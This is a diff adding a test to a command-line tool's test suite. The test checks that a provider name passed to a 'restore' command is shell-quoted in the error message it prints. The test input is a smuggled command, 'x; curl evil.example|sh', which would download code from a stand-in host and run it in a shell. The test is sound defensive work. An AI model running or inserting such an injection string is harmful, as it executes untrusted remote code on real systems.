@@ -84,6 +84,12 @@ def test_options_that_jsonb_does_not_take_are_refused(connection, sexton, tmp_pa
     assert table(connection, "chat_model_configs") == []
 
 
+def test_a_name_in_what_is_to_be_typed_is_quoted_for_the_shell(sexton):
+    result = sexton("provider", "restore", "x; curl evil.example|sh")
+    assert result.code == 5
+    assert "sexton provider add 'x; curl evil.example|sh'" in result.stderr
+
+
 def test_an_editors_mark_does_not_enter_a_key(connection, sexton, tmp_path):
     file = tmp_path / "key"
     file.write_bytes(b"\xef\xbb\xbfsk-made-up\r\n")
